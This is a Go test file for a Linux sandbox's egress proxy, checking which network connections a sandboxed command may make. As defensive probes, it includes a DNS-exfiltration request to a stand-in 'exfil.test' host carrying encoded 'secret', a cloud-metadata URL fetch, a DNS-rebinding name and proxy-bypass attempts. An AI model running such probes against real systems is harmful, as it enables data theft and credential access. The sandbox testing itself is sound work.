//go:build linux

package sandbox

import (
	"archive/zip"
	"bytes"
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/cgi"
	"net/http/httptest"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/reinhq/rein/internal/testenv"
	"github.com/reinhq/rein/sandbox/netproxy"
	"github.com/reinhq/rein/shell"
)

// testEgress allows the targets or hosts it lists, by name, and records
// every decision and connection.
type testEgress struct {
	allow map[string]bool // target ("host:port") or host -> by name
	mu    sync.Mutex
	asked []string
	seen  []netproxy.Event
}

func (e *testEgress) Decide(_ context.Context, r netproxy.Request) netproxy.Verdict {
	e.mu.Lock()
	e.asked = append(e.asked, r.Target)
	e.mu.Unlock()
	host, _, _ := strings.Cut(r.Target, "/")
	for _, k := range []string{r.Target, host, r.Host} {
		if byName, ok := e.allow[k]; ok {
			return netproxy.Verdict{Allow: true, ByName: byName, Rule: k, Layer: "flags", Reason: "allowed by " + k}
		}
	}
	return netproxy.Verdict{Rule: "test deny", Layer: "project", File: "/test/policy.toml", Reason: "denied by the test"}
}

func (e *testEgress) Record(ev netproxy.Event) {
	e.mu.Lock()
	e.seen = append(e.seen, ev)
	e.mu.Unlock()
}

func (e *testEgress) events() []netproxy.Event {
	e.mu.Lock()
	defer e.mu.Unlock()
	return append([]netproxy.Event(nil), e.seen...)
}

// testResolver maps names to addresses and records every lookup.
type testResolver struct {
	mu      sync.Mutex
	names   map[string][]netip.Addr
	lookups []string
}

func (r *testResolver) LookupNetIP(_ context.Context, _, host string) ([]netip.Addr, error) {
	r.mu.Lock()
	defer r.mu.Unlock()
	r.lookups = append(r.lookups, host)
	if a, ok := r.names[host]; ok {
		return a, nil
	}
	return nil, &net.DNSError{Err: "no such host", Name: host, IsNotFound: true}
}

func (r *testResolver) saw() []string {
	r.mu.Lock()
	defer r.mu.Unlock()
	return append([]string(nil), r.lookups...)
}

func useResolver(t *testing.T, names map[string][]netip.Addr) *testResolver {
	r := &testResolver{names: names}
	egressResolver = r
	t.Cleanup(func() { egressResolver = nil })
	return r
}

func loopback(t *testing.T) []netip.Addr { return []netip.Addr{netip.MustParseAddr("127.0.0.1")} }

func needTool(t *testing.T, name string) string {
	t.Helper()
	p, err := exec.LookPath(name)
	if err != nil {
		testenv.Missing(t, "%s is needed: %v", name, err)
	}
	return p
}

func port(t *testing.T, addr string) string {
	_, p, err := net.SplitHostPort(addr)
	if err != nil {
		t.Fatal(err)
	}
	return p
}

func TestNetworkProxy(t *testing.T) {
	needTool(t, "curl")
	plain := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprintf(w, "plain %s", r.URL.Path)
	}))
	defer plain.Close()
	tlsSrv := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprintf(w, "secure %s", r.URL.Path)
	}))
	defer tlsSrv.Close()
	echo, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer echo.Close()
	go func() {
		for {
			c, err := echo.Accept()
			if err != nil {
				return
			}
			go func() { io.Copy(c, c); c.Close() }()
		}
	}()
	// Connections that must never arrive: made around the proxy.
	around, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer around.Close()
	arrived := make(chan struct{}, 8)
	go func() {
		for {
			c, err := around.Accept()
			if err != nil {
				return
			}
			arrived <- struct{}{}
			c.Close()
		}
	}()
	plainHost, tlsHost, echoHost := strings.TrimPrefix(plain.URL, "http://"), strings.TrimPrefix(tlsSrv.URL, "https://"), echo.Addr().String()
	eachRung(t, func(t *testing.T, rung Rung) {
		res := useResolver(t, map[string][]netip.Addr{
			"plain.test":    loopback(t),
			"rebind.test":   loopback(t),
			"metadata.test": {netip.MustParseAddr("169.254.169.254")},
		})
		ws := workspaceDir(t)
		copyProbe(t, ws)
		eg := &testEgress{allow: map[string]bool{
			plainHost: true, tlsHost: true, echoHost: true,
			"plain.test:" + port(t, plainHost): true,
			"rebind.test":                      false, // a wildcard's grant: not by name
			"metadata.test":                    true,
		}}
		p := Profile{Rung: rung, Network: NetworkProxy, Egress: eg, Timeout: 60 * time.Second}
		run := func(line string) *Result {
			t.Helper()
			r := runLine(t, ws, line, p)
			t.Logf("%s: %s exit %d\n%s%s", line, r.Status, r.ExitCode, r.Stdout.Text, r.Stderr.Text)
			return r
		}

		// Allowed: plain HTTP, HTTPS through CONNECT, a name, raw TCP over SOCKS5.
		if r := run("curl -sS " + plain.URL + "/a/b"); r.Status != OK || r.Stdout.Text != "plain /a/b" {
			t.Errorf("plain HTTP through the proxy: %s %q", r.Status, r.Stdout.Text)
		}
		if r := run("curl -sSk " + tlsSrv.URL + "/s"); r.Status != OK || r.Stdout.Text != "secure /s" {
			t.Errorf("HTTPS through the proxy: %s %q", r.Status, r.Stdout.Text)
		}
		if r := run("curl -sS http://plain.test:" + port(t, plainHost) + "/n"); r.Status != OK || r.Stdout.Text != "plain /n" {
			t.Errorf("a name through the proxy: %s %q", r.Status, r.Stdout.Text)
		}
		if r := run("./probe socks " + echoHost); r.Status != OK || !strings.Contains(r.Stdout.Text, "echoed") {
			t.Errorf("TCP over SOCKS5: %s %q", r.Status, r.Stdout.Text)
		}
		if r := run("./probe proxy-env"); r.Status != OK || r.Stdout.Text != "worked\n" {
			t.Errorf("the proxy variables: %s %q", r.Status, r.Stdout.Text)
		}

		// Refused: a host no rule allows, with the rule in the 403's body.
		r := run("curl -sS -w '%{http_code}' http://denied.test/x")
		if !strings.Contains(r.Stdout.Text, "403") || !strings.Contains(r.Stdout.Text, `rule "test deny", layer project, /test/policy.toml`) {
			t.Errorf("a denied host: %q", r.Stdout.Text)
		}
		r = run("curl -sS https://denied-tls.test/")
		if r.Status == OK {
			t.Error("CONNECT to a denied host worked")
		}
		// A refused name is never resolved: DNS cannot carry it out.
		run("curl -sS http://c2VjcmV0.exfil.test/")
		for _, name := range res.saw() {
			if strings.Contains(name, "exfil") || strings.Contains(name, "denied") {
				t.Errorf("a refused name was resolved: %s", name)
			}
		}
		// A wildcard's grant does not reach loopback; a name granted by
		// name does not reach a metadata address.
		if r := run("curl -sS -w '%{http_code}' http://rebind.test:" + port(t, plainHost) + "/"); !strings.Contains(r.Stdout.Text, "403") || !strings.Contains(r.Stdout.Text, "loopback") {
			t.Errorf("a rebound name: %q", r.Stdout.Text)
		}
		if r := run("curl -sS -w '%{http_code}' http://metadata.test/latest/meta-data/"); !strings.Contains(r.Stdout.Text, "403") || !strings.Contains(r.Stdout.Text, "metadata") {
			t.Errorf("a name resolving to a metadata address: %q", r.Stdout.Text)
		}

		// Around the proxy: straight to the host's loopback, UDP, DNS.
		for _, line := range []string{
			"./probe dial-tcp " + around.Addr().String(),
			"./probe send-udp 127.0.0.1:53",
			"./probe resolve example.com",
			"./probe raw",
			"./probe fastopen " + around.Addr().String(),
			"curl -sS --noproxy '*' http://" + around.Addr().String() + "/",
		} {
			if r := run(line); r.Status == OK {
				t.Errorf("%s worked around the proxy", line)
			}
		}
		if rung == RungLandlock {
			// Without a namespace of its own, a listening socket would be
			// the host's (in the bwrap rung's, it is the sandbox's own).
			if r := run("./probe listen"); r.Status == OK {
				t.Error("a socket listened on the host's network")
			}
		}
		select {
		case <-arrived:
			t.Error("a connection around the proxy reached the host")
		default:
		}

		// Every connection was decided and recorded, with its attribution.
		var allowed, refused int
		for _, ev := range eg.events() {
			if ev.Refused != "" {
				refused++
			} else if ev.Err == "" {
				allowed++
				if ev.Addr == "" || ev.Down == 0 {
					t.Errorf("an allowed connection without its address or bytes: %+v", ev)
				}
			}
		}
		if allowed < 4 || refused < 5 {
			t.Errorf("recorded %d allowed and %d refused connections: %+v", allowed, refused, eg.events())
		}
		if r := run("curl -sS " + plain.URL + "/"); len(r.Egress) != 1 || r.Egress[0].Target != plainHost+"/" || r.Network != NetworkProxy {
			t.Errorf("the result's egress: %+v", r.Egress)
		}
	})
}

func TestNetworkProxyGit(t *testing.T) {
	git := needTool(t, "git")
	root := t.TempDir()
	repo := filepath.Join(root, "repo.git")
	src := filepath.Join(root, "src")
	for _, args := range [][]string{
		{"init", "-q", "-b", "main", src},
		{"-C", src, "-c", "user.email=t@e.st", "-c", "user.name=t", "commit", "-q", "--allow-empty", "-m", "first"},
		{"clone", "-q", "--bare", src, repo},
	} {
		if out, err := exec.Command(git, args...).CombinedOutput(); err != nil {
			t.Fatalf("git %v: %v\n%s", args, err, out)
		}
	}
	srv := httptest.NewServer(&cgi.Handler{Path: git, Args: []string{"http-backend"},
		Env: []string{"GIT_PROJECT_ROOT=" + root, "GIT_HTTP_EXPORT_ALL=1"}})
	defer srv.Close()
	eachRung(t, func(t *testing.T, rung Rung) {
		ws := workspaceDir(t)
		eg := &testEgress{allow: map[string]bool{strings.TrimPrefix(srv.URL, "http://"): true}}
		r := runLine(t, ws, "git clone -q "+srv.URL+"/repo.git clone", Profile{Rung: rung, Network: NetworkProxy, Egress: eg, Timeout: 60 * time.Second})
		if r.Status != OK {
			t.Fatalf("git clone over HTTP through the proxy: %s %s\n%s", r.Status, r.Reason, r.Stderr.Text)
		}
		if _, err := os.Stat(filepath.Join(ws, "clone", ".git", "HEAD")); err != nil {
			t.Errorf("nothing was cloned: %v", err)
		}
	})
}

func TestNetworkProxyGoModDownload(t *testing.T) {
	goBin := needTool(t, "go")
	const mod, version = "modules.test/hello", "v1.0.0"
	var zipped bytes.Buffer
	zw := zip.NewWriter(&zipped)
	for name, body := range map[string]string{
		"go.mod":   "module " + mod + "\n\ngo 1.21\n",
		"hello.go": "package hello\n\nconst Hello = \"hi\"\n",
	} {
		w, _ := zw.Create(mod + "@" + version + "/" + name)
		io.WriteString(w, body)
	}
	zw.Close()
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		base := "/" + mod + "/@v/"
		switch r.URL.Path {
		case base + "list":
			fmt.Fprintln(w, version)
		case base + version + ".info":
			fmt.Fprintf(w, `{"Version":%q,"Time":"2026-01-01T00:00:00Z"}`, version)
		case base + version + ".mod":
			fmt.Fprintf(w, "module %s\n\ngo 1.21\n", mod)
		case base + version + ".zip":
			w.Write(zipped.Bytes())
		default:
			http.NotFound(w, r)
		}
	}))
	defer srv.Close()
	goroot, err := exec.Command(goBin, "env", "GOROOT").Output()
	if err != nil {
		t.Fatal(err)
	}
	eachRung(t, func(t *testing.T, rung Rung) {
		// Go never sends a loopback address through a proxy, so the module
		// server goes by a name that only the proxy resolves.
		useResolver(t, map[string][]netip.Addr{"proxy.modules.test": loopback(t)})
		ws := workspaceDir(t)
		os.WriteFile(filepath.Join(ws, "go.mod"), []byte("module example.test/ws\n\ngo 1.21\n\nrequire "+mod+" "+version+"\n"), 0o644)
		hostPort := "proxy.modules.test:" + port(t, strings.TrimPrefix(srv.URL, "http://"))
		eg := &testEgress{allow: map[string]bool{hostPort: true}}
		p := Profile{Rung: rung, Network: NetworkProxy, Egress: eg, Timeout: 120 * time.Second,
			HostReadPaths: hostReadGo(strings.TrimSpace(string(goroot)), goBin),
			Env:           []string{"GOPROXY=http://" + hostPort, "GOSUMDB=off", "GOTOOLCHAIN=local", "GOFLAGS=-mod=mod", "PATH=" + filepath.Dir(goBin) + ":" + hostPATH}}
		r := runLine(t, ws, "go mod download -json "+mod+"@"+version, p)
		if r.Status != OK || !strings.Contains(r.Stdout.Text, `"Version": "`+version+`"`) {
			t.Fatalf("go mod download through the proxy: %s %s\n%s%s", r.Status, r.Reason, r.Stdout.Text, r.Stderr.Text)
		}
	})
}

// hostReadGo is what the sandbox needs to see of the host's Go toolchain
// when it lies outside the system directories.
func hostReadGo(goroot, goBin string) []string {
	var out []string
	for _, p := range []string{goroot, filepath.Dir(goBin)} {
		inSystem := false
		for _, d := range systemDirs() {
			if within(p, d) {
				inSystem = true
			}
		}
		if !inSystem && !contains(out, p) {
			out = append(out, p)
		}
	}
	return out
}

func contains(list []string, s string) bool {
	for _, x := range list {
		if x == s {
			return true
		}
	}
	return false
}

func TestNetworkProxyRefusals(t *testing.T) {
	ws := workspaceDir(t)
	l, err := shell.FromArgv([]string{"true"})
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range []struct {
		p    Profile
		want string
	}{
		{Profile{Network: NetworkProxy}, "needs an egress policy"},
		{Profile{Network: "wifi"}, "unknown network mode"},
		{Profile{Network: NetworkProxy, Egress: &testEgress{}, Rung: RungNone}, "the none rung confines nothing"},
		{Profile{Network: NetworkFull, Rung: RungLandlock}, "only the bwrap rung"},
	} {
		c.p.Workspace = ws
		_, err := Run(context.Background(), l, c.p, nil, nil)
		if err == nil || !strings.Contains(err.Error(), c.want) {
			t.Errorf("%+v: %v, want %q", c.p, err, c.want)
		}
	}
}

func TestNetworkOffBattery(t *testing.T) {
	abstract, err := net.Listen("unix", "@rein-test-"+strconv.Itoa(os.Getpid()))
	if err != nil {
		t.Fatal(err)
	}
	defer abstract.Close()
	eachRung(t, func(t *testing.T, rung Rung) {
		ws := workspaceDir(t)
		copyProbe(t, ws)
		for _, line := range []string{
			"./probe resolve example.com",
			"./probe send-udp 127.0.0.1:53",
			"./probe raw",
			"./probe dial-tcp6 '[::1]:22'",
			"./probe dial-unix @rein-test-" + strconv.Itoa(os.Getpid()),
		} {
			r := runLine(t, ws, line, Profile{Rung: rung})
			if r.Status == OK || !strings.HasPrefix(r.Stdout.Text, "refused: ") {
				t.Errorf("%s with the network off: %s %q", line, r.Status, r.Stdout.Text)
			}
		}
	})
}

func TestNetworkFull(t *testing.T) {
	requireRung(t, RungBwrap)
	if _, err := slirpPath(); err != nil {
		testenv.Missing(t, "network full: %v", err)
	}
	needTool(t, "curl")
	// A server on every address of the host: reachable through slirp4netns
	// on the host's own address, never on its loopback.
	l, err := net.Listen("tcp", "0.0.0.0:0")
	if err != nil {
		t.Fatal(err)
	}
	srv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { io.WriteString(w, "full") })}
	go srv.Serve(l)
	defer srv.Close()
	p := port(t, l.Addr().String())
	hostIP := hostAddress(t)
	ws := workspaceDir(t)
	copyProbe(t, ws)
	if pf := PreflightFull(context.Background(), ws, true); !pf.OK {
		t.Fatalf("the full preflight failed: %+v", pf)
	}
	prof := Profile{Rung: RungBwrap, Network: NetworkFull, Timeout: 60 * time.Second}
	r := runLine(t, ws, "curl -sS --max-time 10 http://"+hostIP+":"+p+"/", prof)
	if r.Status != OK || r.Stdout.Text != "full" {
		t.Errorf("the host's address through slirp4netns: %s %q %s", r.Status, r.Stdout.Text, r.Stderr.Text)
	}
	for _, line := range []string{
		"curl -sS --max-time 5 http://10.0.2.2:" + p + "/",
		"./probe dial-tcp 127.0.0.1:" + p,
	} {
		if r := runLine(t, ws, line, prof); r.Status == OK {
			t.Errorf("%s reached the host's loopback in network full", line)
		}
	}
	if r.Network != NetworkFull {
		t.Errorf("the result's network is %q", r.Network)
	}
	// Nothing of slirp4netns is left: none of this process's children
	// (other packages' tests may run one of their own meanwhile).
	if out, _ := exec.Command("pgrep", "-P", strconv.Itoa(os.Getpid()), "slirp4netns").Output(); len(out) > 0 {
		t.Errorf("slirp4netns survived the run: %s", out)
	}
}

// hostAddress is an address of the host other than loopback.
func hostAddress(t *testing.T) string {
	addrs, err := net.InterfaceAddrs()
	if err != nil {
		t.Fatal(err)
	}
	for _, a := range addrs {
		if n, ok := a.(*net.IPNet); ok && n.IP.To4() != nil && !n.IP.IsLoopback() {
			return n.IP.String()
		}
	}
	t.Fatal("the host has no IPv4 address but loopback")
	return ""
}

// TestNetworkProxyLongCacheDir: the proxy's socket does not depend on the
// length of the user's paths: a cache directory far deeper than a unix
// socket's 107 bytes (a CI runner's temporary HOME) runs as any other.
func TestNetworkProxyLongCacheDir(t *testing.T) {
	needTool(t, "curl")
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { fmt.Fprint(w, "reached") }))
	defer srv.Close()
	deep := filepath.Join(t.TempDir(), strings.Repeat("a-long-directory-name/", 8))
	t.Cleanup(func() { SetCacheDir("") })
	if err := SetCacheDir(deep); err != nil {
		t.Fatal(err)
	}
	if len(deep) < 150 {
		t.Fatalf("the directory is only %d bytes", len(deep))
	}
	ws := workspaceDir(t)
	eg := &testEgress{allow: map[string]bool{strings.TrimPrefix(srv.URL, "http://"): true}}
	res := runLine(t, ws, "curl -sS "+srv.URL+"/", Profile{Rung: RungBwrap, Network: NetworkProxy, Egress: eg, Timeout: 60 * time.Second})
	if res.Status != OK || res.Stdout.Text != "reached" {
		t.Fatalf("%+v", res)
	}
}
